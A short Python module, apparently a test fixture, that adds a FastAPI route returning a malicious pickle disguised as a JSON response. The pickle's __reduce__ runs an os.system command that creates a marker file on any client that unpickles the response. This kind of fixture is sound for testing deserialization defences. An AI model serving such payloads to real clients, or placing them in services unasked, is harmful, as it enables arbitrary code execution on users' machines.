"""Answers with a pickle that runs a command where it is read."""

import os
import pickle

from fastapi import FastAPI
from fastapi.responses import Response


class Bomb:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("touch /tmp/setu-attack-pickle",)


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def bomb(user_id: str) -> Response:
        return Response(pickle.dumps(Bomb()), media_type="application/json")
